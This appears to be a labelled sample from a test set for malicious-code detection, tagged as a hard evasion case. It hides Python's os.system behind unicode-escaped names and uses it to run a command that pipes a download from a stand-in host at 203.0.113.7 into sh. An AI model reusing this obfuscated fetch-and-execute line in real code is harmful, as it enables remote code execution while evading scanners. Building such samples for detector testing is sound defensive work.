# evasion: module and function names spelled with \N{...} named unicode escapes
# grade: hard; does: shell
mod = __import__("\N{LATIN SMALL LETTER O}\N{LATIN SMALL LETTER S}")
fn = getattr(
    mod,
    "\N{LATIN SMALL LETTER S}\N{LATIN SMALL LETTER Y}\N{LATIN SMALL LETTER S}"
    "\N{LATIN SMALL LETTER T}\N{LATIN SMALL LETTER E}\N{LATIN SMALL LETTER M}",
)
fn("sh -c 'id; curl -s http://203.0.113.7/p | sh'")
